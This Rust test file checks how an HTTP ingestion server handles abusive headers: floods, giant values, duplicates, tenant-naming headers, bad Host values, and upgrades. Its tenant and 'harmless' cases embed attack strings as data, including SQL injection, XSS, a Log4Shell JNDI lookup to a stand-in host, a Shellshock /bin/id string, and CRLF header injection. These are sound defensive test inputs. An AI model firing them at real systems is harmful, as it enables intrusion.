//! Floods, giants, duplicates, hosts, expectations, upgrades, and headers that name a tenant.

use super::case::{Area, Case, Due, refuse};
use super::request::{Request, small};
use super::sender::Sender;
use millrace_shared::Signal;

const AREA: Area = Area::Headers;

const BAD: (u16, &[&str]) = (400, &["bad_header"]);
/// "The server is unwilling to process the request because its header fields are too large"
/// (RFC 6585, 5), or a plain 400.
const TOO_MUCH: &[u16] = &[400, 431];

pub(super) fn cases(sender: &Sender) -> Vec<Case> {
    [
        floods(sender),
        duplicates(sender),
        tenants(sender),
        hosts(sender),
        expectations(sender),
        upgrades(sender),
        idempotency(sender),
        harmless(sender),
    ]
    .concat()
}

fn good(sender: &Sender, what: &str) -> Request {
    Request::signed(sender, Signal::Logs, small(sender, Signal::Logs, what))
}

fn floods(sender: &Sender) -> Vec<Case> {
    let request = good(sender, "a flood of headers");
    let mut cases = Vec::new();
    let mut add = |name: String, request: Request| {
        let case = Case::new(
            Area::Headers,
            name,
            request.wire(),
            Due::refused(TOO_MUCH, &[]),
        );
        // Who still sends when he is refused may be cut off before he reads why.
        cases.push(case.or_silence());
    };
    for count in [200, 1_000, 10_000, 50_000] {
        let mut flood = request.clone();
        for number in 0..count {
            flood = flood.and(format!("x-flood-{number}"), "a");
        }
        add(format!("{count} headers"), flood);
        let mut flood = request.clone();
        for _ in 0..count {
            flood = flood.and("cookie", "a=b");
        }
        add(format!("{count} cookies"), flood);
        let mut flood = request.clone();
        for _ in 0..count {
            flood = flood.and("a", "");
        }
        add(format!("{count} empty headers"), flood);
    }
    for bytes in [140_000, 1_000_000, 8_000_000] {
        let big = "a".repeat(bytes);
        add(
            format!("a header of {bytes} bytes"),
            request.clone().and("x-big", &big),
        );
        add(
            format!("a header's name of {bytes} bytes"),
            request.clone().and(&big, "a"),
        );
        add(
            format!("a key's id of {bytes} bytes"),
            request.clone().with("x-org-key", &big),
        );
        add(
            format!("a signature of {bytes} bytes"),
            request.clone().with("x-signature", &big),
        );
    }
    cases
}

/// What may be said once only, said twice: the same or something else.
fn duplicates(sender: &Sender) -> Vec<Case> {
    let request = good(sender, "said twice");
    let webhook = Request::webhook(
        &sender.good,
        sender,
        ("msg_twice", sender.now_s),
        small(sender, Signal::Logs, "said twice"),
    );
    let mut cases = Vec::new();
    for (name, other) in [
        ("x-org-key", "k_other"),
        ("x-signature", "sha256=00"),
        ("x-idempotency-key", "other"),
        ("content-encoding", "identity"),
        ("origin", "https://other.example"),
        ("content-type", "application/x-ndjson"),
    ] {
        let first = request
            .headers
            .iter()
            .find(|(known, _)| known == name.as_bytes());
        let first = first.map_or_else(|| b"one".to_vec(), |(_, value)| value.clone());
        let first = if name == "content-encoding" {
            b"gzip".to_vec()
        } else {
            first
        };
        for (how, second) in [
            ("again", first.clone()),
            ("differently", other.as_bytes().to_vec()),
        ] {
            let twice = request
                .clone()
                .with(name, &first)
                .and(name.to_uppercase(), &second);
            let name = format!("{name} said twice, {how}");
            refuse(&mut cases, AREA, name, &twice, BAD);
        }
        let swapped = request.clone().with(name, other).and(name, &first);
        let name = format!("{name} said twice, the good one last");
        refuse(&mut cases, AREA, name, &swapped, BAD);
    }
    for name in ["webhook-id", "webhook-timestamp", "webhook-signature"] {
        let first = webhook
            .headers
            .iter()
            .find(|(known, _)| known == name.as_bytes());
        let first = first.map(|(_, value)| value.clone()).unwrap_or_default();
        for (how, second) in [("again", first.as_slice()), ("differently", b"x")] {
            let twice = webhook.clone().and(name, second);
            let name = format!("{name} said twice, {how}");
            refuse(&mut cases, AREA, name, &twice, BAD);
        }
    }
    cases
}

/// Headers with which other systems name a tenant: the key alone says whose data it is.
fn tenants(sender: &Sender) -> Vec<Case> {
    let request = good(sender, "a tenant");
    let mut cases = Vec::new();
    for name in [
        "x-org-id",
        "x-org",
        "x-organisation",
        "x-organisation-id",
        "x-organization",
        "x-organization-id",
        "x-tenant",
        "x-tenant-id",
        "x-company-id",
        "x-account-id",
        "x-customer-id",
        "x-workspace-id",
        "x-project-id",
        "x-scope-orgid",
    ] {
        for value in [
            "",
            "acme",
            "00000000-0000-0000-0000-000000000000",
            "' OR 1=1 --",
            "\u{e9}",
        ] {
            let named = request.clone().and(name, value);
            let what = format!("{name}: {value:?}");
            refuse(&mut cases, AREA, what, &named, BAD);
        }
        let shouted = request.clone().and(name.to_uppercase(), "acme");
        let what = format!("{}: acme", name.to_uppercase());
        refuse(&mut cases, AREA, what, &shouted, BAD);
    }
    cases
}

/// What is neither a name nor an address (RFC 3986, 3.2.2).
const ODD_HOSTS: &[&str] = &[
    "a b",
    "a/b",
    "a?b",
    "a#b",
    "a@b",
    "a\\b",
    "a\"b",
    "<a>",
    "{a}",
    "a|b",
    "a^b",
    "a`b",
    "[::1",
    "::1]",
    "[x]",
    "[::1]x",
    "a:b",
    "a:-1",
    "a:80:80",
    "a:80x",
    "http://a",
    "//a",
    "a%",
    "a%zz",
    "\u{e9}.example",
    "a.example:80, b.example",
];

/// "A server MUST respond with a 400 to any HTTP/1.1 request message that lacks a Host header
/// field and to any that contains more than one or an invalid one" (RFC 9112, 3.2).
fn hosts(sender: &Sender) -> Vec<Case> {
    let request = good(sender, "a host");
    let mut cases = vec![Case::refused(
        Area::Headers,
        "no host",
        &request.clone().without("host"),
        BAD,
    )];
    for other in [sender.host.as_str(), "other.example"] {
        let twice = request.clone().and("Host", other);
        let name = format!("a second host, {other}");
        refuse(&mut cases, AREA, name, &twice, BAD);
    }
    for host in ODD_HOSTS.iter().copied() {
        let odd = request.clone().with("host", host);
        refuse(&mut cases, AREA, format!("the host {host:?}"), &odd, BAD);
    }
    let old = request.clone().without("host").version("HTTP/1.0");
    cases.push(Case::new(
        Area::Headers,
        "no host in HTTP/1.0",
        old.wire(),
        Due::accepted(),
    ));
    for host in [
        "[::1]",
        "[::1]:8080",
        "a",
        "a.example.",
        "a:",
        "1.2.3.4:99999",
        "xn--bcher-kva.example",
        "a%20b",
        "a,b",
        "(a)!",
        "",
    ] {
        let fine = request.clone().with("host", host);
        let name = format!("the host {host:?}, which is none of ours");
        // Whether a name that is not ours is served is the server's choice (421 otherwise).
        cases.push(Case::new(
            Area::Headers,
            name,
            fine.wire(),
            Due::refused(&[202, 400, 421], &[]),
        ));
    }
    cases
}

fn expectations(sender: &Sender) -> Vec<Case> {
    let request = good(sender, "an expectation");
    let mut cases = vec![Case::new(
        Area::Headers,
        "expect: 100-continue",
        request.clone().and("expect", "100-continue").wire(),
        Due::accepted(),
    )];
    for odd in [
        "200-ok",
        "100-continues",
        "",
        "100-continue, x",
        "x=1",
        "nothing",
        "\u{e9}",
    ] {
        // An expectation that is not known MAY be a 417 (RFC 9110, 10.1.1), or passed over.
        let name = format!("expect: {odd:?}");
        let due = Due::refused(&[202, 400, 417], &[]);
        cases.push(Case::new(
            Area::Headers,
            name,
            request.clone().and("expect", odd).wire(),
            due,
        ));
    }
    let huge = request
        .clone()
        .and("expect", "100-continue")
        .with("content-length", "2000000")
        .carrying("");
    refuse(
        &mut cases,
        AREA,
        "expects to send too much",
        &huge,
        (413, &["too_large"]),
    );
    let unsigned = Request::unsigned(sender, Signal::Logs, "{}").and("expect", "100-continue");
    refuse(
        &mut cases,
        AREA,
        "expects, unsigned",
        &unsigned,
        (401, &["unauthorized"]),
    );
    cases
}

/// A server may pass over an upgrade (RFC 9110, 7.8), and then it is a request like any other.
fn upgrades(sender: &Sender) -> Vec<Case> {
    let request = good(sender, "an upgrade");
    let mut cases = Vec::new();
    for (protocol, more) in [
        (
            "websocket",
            Some(("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ==")),
        ),
        ("h2c", Some(("http2-settings", "AAMAAABkAARAAAAAAAIAAAAA"))),
        ("TLS/1.0", None),
        ("nothing/9", None),
    ] {
        let mut odd = request
            .clone()
            .and("connection", "Upgrade")
            .and("upgrade", protocol);
        if let Some((name, value)) = more {
            odd = odd.and(name, value);
        }
        let name = format!("upgrade: {protocol}");
        cases.push(Case::new(
            Area::Headers,
            name,
            odd.wire(),
            Due::refused(&[202, 400], &[]),
        ));
        let unsigned = odd.without("x-signature");
        let name = format!("upgrade: {protocol}, unsigned");
        let due = Due::refused(&[400, 401], &["unauthorized", "bad_header"]);
        cases.push(Case::new(Area::Headers, name, unsigned.wire(), due));
    }
    cases
}

fn idempotency(sender: &Sender) -> Vec<Case> {
    let mut cases = Vec::new();
    for name in ["x-idempotency-key", "idempotency-key"] {
        for key in ["", " ", "a b", "a\tb", "\u{e9}", "\u{1f600}"] {
            let odd = good(sender, name).with(name, key);
            let what = format!("{name}: {key:?}");
            refuse(&mut cases, AREA, what, &odd, BAD);
        }
        for length in [129usize, 1_000, 60_000] {
            let odd = good(sender, name).with(name, "k".repeat(length));
            let what = format!("{name} of {length} characters");
            refuse(&mut cases, AREA, what, &odd, BAD);
        }
    }
    let webhook = Request::webhook(
        &sender.good,
        sender,
        ("msg_1", sender.now_s),
        small(sender, Signal::Logs, "two ids"),
    );
    for name in ["x-idempotency-key", "idempotency-key"] {
        let odd = webhook.clone().and(name, "msg_2");
        let what = format!("{name} beside another webhook-id");
        refuse(&mut cases, AREA, what, &odd, BAD);
    }
    cases
}

/// Odd, and nobody's fault: what is sent beside the contract must not hurt.
fn harmless(sender: &Sender) -> Vec<Case> {
    let request = good(sender, "harmless");
    let mut cases = Vec::new();
    for (name, value) in [
        ("x-request-id", "<script>alert(1)</script>"),
        ("x-request-id", "${jndi:ldap://hostile.example/a}"),
        ("x-request-id", "\u{1b}[31mred\u{1b}[0m"),
        ("x-request-id", ""),
        ("traceparent", "00-zz-zz-zz"),
        (
            "traceparent",
            "ff-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
        ),
        ("user-agent", "() { :;}; /bin/id"),
        ("user-agent", "\u{1f600}"),
        ("x-forwarded-for", "127.0.0.1, ::1, unknown, '"),
        ("x-forwarded-for", "999.999.999.999"),
        ("forwarded", "for=\"[::1]\";by=<>"),
        ("cookie", "a=b; c"),
        ("referer", "javascript:alert(1)"),
        ("accept", "nonsense"),
        ("accept-encoding", "gzip;q=nan"),
        ("range", "bytes=-1"),
        ("if-match", "*"),
        ("authorization", "Basic %%%"),
        ("te", "trailers, chunked"),
        ("trailer", "x-org-key"),
        ("connection", "x-org-key, x-signature"),
        ("max-forwards", "-1"),
        ("x-http-method-override", "DELETE"),
        ("x-original-url", "/admin"),
        ("content-length-x", "7"),
        ("content_length", "7"),
        ("transfer_encoding", "chunked"),
        ("x-odd", "%00%0d%0aset-cookie:%20a=b"),
    ] {
        let case_name = format!("{name}: {value:?}, which is harmless");
        let odd = request.clone().and(name, value);
        let statuses: &[u16] = if value.contains('\u{1b}') {
            &[202, 400]
        } else {
            &[202]
        };
        cases.push(Case::new(
            Area::Headers,
            case_name,
            odd.wire(),
            Due::refused(statuses, &[]),
        ));
    }
    cases
}
